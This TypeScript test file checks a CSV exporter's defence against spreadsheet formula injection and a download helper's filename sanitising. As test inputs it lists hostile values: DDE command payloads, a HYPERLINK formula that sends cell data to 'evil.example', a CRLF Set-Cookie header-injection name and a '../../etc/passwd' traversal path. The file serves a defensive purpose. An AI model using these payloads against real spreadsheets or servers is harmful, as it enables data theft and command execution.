import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type Cell, csvOf, harmless } from './csv.ts'
import { dispositionOf } from './download.ts'

async function csv(...rows: readonly (readonly Cell[])[]): Promise<string> {
  const columns = (rows[0] ?? []).map((_, index) => ({ name: `c${index}`, of: (row: readonly Cell[]) => row[index] ?? null }))
  const parts: string[] = []
  for await (const part of csvOf(
    columns,
    (async function* () {
      yield rows
    })(),
  ))
    parts.push(part)
  return parts.join('')
}

test('CSV is UTF-8 with a mark, CRLF, text in quotes, figures as they are, unknown empty', async () => {
  expect(await csv(['São "Paulo", SP', -5, 2.5, true, null, ''])).toBe(
    '\uFEFF"c0","c1","c2","c3","c4","c5"\r\n"São ""Paulo"", SP",-5,2.5,true,,""\r\n',
  )
})

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '⁼1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1',
  `'=1+1`,
  '\u0000=1+1',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1)',
]

test.each(FORMULAS)('%j is no formula any more, and is still there to be read', text => {
  const harmlessText = harmless(text)
  expect([harmlessText[0], harmlessText.slice(1).replace(/^([\t\r\n])'/, '$1')]).toEqual(["'", text])
})

test.each([
  ['x;=1+1', "x;'=1+1"],
  ['x";"=1+1', `x";"'=1+1`],
  ['x;;=1+1', "x;;'=1+1"],
  ['x\t=1+1', "x\t'=1+1"],
  ['x\r\n@y', "x\r\n'@y"],
  ['x, ＝y', "x, '＝y"],
])('%j cut in two by a spreadsheet that separates otherwise is no formula either', (text, expected) => {
  expect(harmless(text)).toBe(expected)
})

test.each(['Contoso', 'a=b', 'a-b', '2026-11-21', 'x; y', '3 > 2', "O'Neil", 'São Paulo', '', '7', '–', 'a;b;c'])(
  '%j stays as it is',
  text => {
    expect(harmless(text)).toBe(text)
  },
)

test('what the library neutralises by itself is less: the reason for our own', () => {
  const alone = (text: string) => stringify([[text]], { escape_formulas: true }).startsWith("'")
  expect(['=1', '+1', '-1', '@1', '＝1', '＋1', '－1', '＠1'].map(alone)).toEqual(Array(8).fill(true))
  expect([' =1', '\u00a0=1', '﹦1', '\u200b=1', 'x;=1'].map(alone)).toEqual(Array(5).fill(false))
})

test('whatever the text, no cell begins a formula in a spreadsheet of either separator, and nothing is lost', async () => {
  const nasty = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '＝', ';', ',', '"', "'", '\t', '\r', '\n', ' ', '\u200b', 'a', '1', '|'),
    maxLength: 12,
  })
  await fc.assert(
    fc.asyncProperty(fc.oneof(nasty, fc.string({ unit: 'grapheme' })), async text => {
      const file = await csv(['x', text])
      const read = parse(file, { bom: true }) as string[][]
      expect([read.length, read[1]?.[0]]).toEqual([2, 'x'])
      // Only apostrophes came in.
      let rest = read[1]?.[1] ?? ''
      for (const character of text) {
        while (rest[0] === "'" && character !== "'") rest = rest.slice(1)
        expect(rest.startsWith(character)).toBe(true)
        rest = rest.slice(character.length)
      }
      for (const cell of file.slice(1).split(/[;,\t\r\n]/)) {
        expect(/^[\s"\p{Cc}\p{Cf}\p{Z}]*[=+\-@＝]/u.test(cell)).toBe(false)
      }
    }),
    { numRuns: 500 },
  )
})

test('names of files end neither the header nor the folder', () => {
  expect(dispositionOf('São "Paulo"\r\nSet-Cookie: a=b.csv')).toBe(
    `attachment; filename="Sao _Paulo___Set-Cookie_ a_b.csv"; filename*=UTF-8''S%C3%A3o%20%22Paulo%22__Set-Cookie%3A%20a%3Db.csv`,
  )
  expect(dispositionOf('../../etc/passwd')).toBe(`attachment; filename=".._.._etc_passwd"; filename*=UTF-8''.._.._etc_passwd`)
  expect(dispositionOf('')).toContain('filename="download"')
  // Cut at its end, it would be saved as the page that it is not.
  expect(dispositionOf(`${'a'.repeat(145)}.html${'b'.repeat(45)}.txt`)).toContain(`filename="${'a'.repeat(145)}..txt"`)
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), name => {
      expect(dispositionOf(name)).toMatch(/^attachment; filename="[A-Za-z0-9._ -]+"; filename\*=UTF-8''[A-Za-z0-9%._~!-]+$/)
    }),
  )
})
